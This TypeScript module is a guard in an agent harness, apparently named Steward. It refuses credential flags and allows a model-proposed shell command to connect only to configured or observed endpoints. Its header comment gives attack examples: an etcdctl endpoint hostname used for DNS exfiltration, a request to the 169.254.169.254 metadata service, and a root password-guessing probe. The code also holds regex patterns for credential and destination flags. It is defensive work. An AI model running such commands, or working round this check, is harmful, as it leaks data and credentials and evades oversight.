/**
 * No model-chosen destinations. A command that talks to the network goes where its flags
 * say: `etcdctl --endpoints=http://<data>.example:2379` turns a hostname into a DNS
 * exfiltration channel, `--endpoints=http://169.254.169.254` into a request to the cloud's
 * metadata service, `--user=root:guess` into a credential probe. So in a shell command:
 *
 * - a flag that sets credentials or trust (`--user`, `--password`, `--cert`, `--key`,
 *   `--insecure-*`, `--config`, `--context`, `--tls*`, `--kubeconfig`…) is refused outright;
 * - a flag that chooses where the command connects (`--endpoints`, `--host`/`-H`, `--url`,
 *   `--server`, `--discovery-srv`, `--proxy`…) and any URL or `host:port` argument must name
 *   an endpoint Steward was configured with (the policy's `endpoints`) or observed in the
 *   target (the client URLs its etcd members advertise);
 * - and a wildcard in a policy rule never stands for one of those flags (policy.ts): a rule
 *   that means to allow one names it (`etcdctl --endpoints=* endpoint health`).
 *
 * Flags are recognised by the words in their names, so a flag this list never heard of
 * (`--advertise-proxy-host`) is caught by its words too; a program's one-letter forms are
 * listed per program.
 */
import { programName } from "./argv-screen.js";

export type FlagClass = "destination" | "credentials";

const CREDENTIAL_WORDS =
  /user|pass|token|cred|cert|key|cacert|auth|identity|kubeconfig|config|context|insecure|tls|ssl|sign|secret|login/i;
const DESTINATION_WORDS =
  /endpoint|host|server|url|addr|discovery|srv|proxy|peer|remote|connect|socket|dns|resolv|gateway|upstream|target|cluster/i;

/** One-letter flags that choose a destination or credentials, per program (by basename). */
const SHORT_FLAGS: ReadonlyMap<string, ReadonlyMap<string, FlagClass>> = new Map([
  [
    "docker",
    new Map<string, FlagClass>([
      ["H", "destination"],
      ["c", "credentials"],
    ]),
  ],
]);

/** What a flag element chooses, if it chooses a destination or credentials. */
export function flagClass(program: string, element: string): FlagClass | undefined {
  if (!element.startsWith("-") || element === "-" || element === "--") return undefined;
  const long = element.startsWith("--");
  const name = element.slice(long ? 2 : 1).split("=")[0] ?? "";
  if (long) return classByWords(name);
  const short = SHORT_FLAGS.get(programName(program))?.get(name.slice(0, 1));
  // `-endpoints=x`: Go's flag package reads single-dash long names as well.
  return short ?? (name.length >= 3 ? classByWords(name) : undefined);
}

function classByWords(name: string): FlagClass | undefined {
  if (CREDENTIAL_WORDS.test(name)) return "credentials";
  return DESTINATION_WORDS.test(name) ? "destination" : undefined;
}

/** A URL (`scheme://…`) or `host:port`, bracketed IPv6 included. */
const LOOKS_LIKE_ENDPOINT = /^[a-z][a-z0-9+.-]*:\/\/|^(?:\[[0-9a-f:.]+\]|[a-z0-9_.-]+):\d{1,5}\/?$/i;

interface ParsedEndpoint {
  scheme: string | undefined;
  hostPort: string;
}

const DEFAULT_PORTS: Readonly<Record<string, string>> = { http: "80", https: "443" };

/** An endpoint as scheme and `host:port`; undefined when it has credentials, a path, a query or no host. */
export function parseEndpoint(value: string): ParsedEndpoint | undefined {
  const scheme = /^([a-z][a-z0-9+.-]*):\/\//i.exec(value)?.[1]?.toLowerCase();
  const url = parseUrl(scheme ? value : `endpoint://${value}`);
  if (!url || !isBareEndpoint(url)) return undefined;
  const port = url.port || (scheme ? DEFAULT_PORTS[scheme] : undefined);
  return port ? { scheme, hostPort: `${url.hostname.toLowerCase()}:${port}` } : undefined;
}

function parseUrl(text: string): URL | undefined {
  try {
    return new URL(text);
  } catch {
    return undefined;
  }
}

/** A host (and port) only: no credentials, path, query or fragment. */
const isBareEndpoint = (url: URL): boolean =>
  url.hostname !== "" && !url.username && !url.password && !url.search && !url.hash && ["", "/"].includes(url.pathname);

/** Whether `value` is one of `allowed`: same host and port, and the same scheme when both say one. */
export function isAllowedEndpoint(value: string, allowed: readonly string[]): boolean {
  const endpoint = parseEndpoint(value);
  if (!endpoint) return false;
  return allowed.some((a) => {
    const known = parseEndpoint(a);
    return (
      known !== undefined &&
      known.hostPort === endpoint.hostPort &&
      (known.scheme === undefined || endpoint.scheme === undefined || known.scheme === endpoint.scheme)
    );
  });
}

function describeAllowed(allowed: readonly string[]): string {
  return allowed.length === 0 ? "none is configured or observed" : `allowed: ${allowed.join(", ")}`;
}

function checkEndpoints(values: readonly string[], allowed: readonly string[], where: string): string | undefined {
  const foreign = values.find((v) => !isAllowedEndpoint(v, allowed));
  return foreign === undefined
    ? undefined
    : `${where} names the destination ${JSON.stringify(foreign)}, which is not an endpoint Steward was configured with or observed in the target (${describeAllowed(allowed)})`;
}

/** The value of the flag at `i` (`--x=v` or `--x v`) and how many elements it took. */
function flagValue(argv: readonly string[], i: number): { value: string | undefined; width: number } {
  const element = argv[i] ?? "";
  const eq = element.indexOf("=");
  if (eq >= 0) return { value: element.slice(eq + 1), width: 1 };
  const short = !element.startsWith("--") && element.length > 2;
  if (short) return { value: element.slice(2), width: 1 };
  const next = argv[i + 1];
  return next === undefined || next.startsWith("-") ? { value: undefined, width: 1 } : { value: next, width: 2 };
}

/**
 * Why `argv` would make its program connect somewhere, or with credentials, that the
 * model chose; undefined when it names no destination but `allowed` ones.
 */
export function modelChosenDestination(argv: readonly string[], allowed: readonly string[]): string | undefined {
  const program = argv[0] ?? "";
  for (let i = 1; i < argv.length;) {
    const element = argv[i] ?? "";
    const where = `argv[${i}] ${JSON.stringify(element)}`;
    const kind = flagClass(program, element);
    if (kind === "credentials") {
      return `${where} sets credentials or trust for the connection; the agent never chooses them`;
    }
    if (kind === "destination") {
      const { value, width } = flagValue(argv, i);
      if (value === undefined) return `${where} chooses a destination but gives none`;
      const problem = checkEndpoints(value.split(","), allowed, where);
      if (problem) return problem;
      i += width;
      continue;
    }
    if (LOOKS_LIKE_ENDPOINT.test(element)) {
      const problem = checkEndpoints([element], allowed, where);
      if (problem) return problem;
    }
    i += 1;
  }
  return undefined;
}
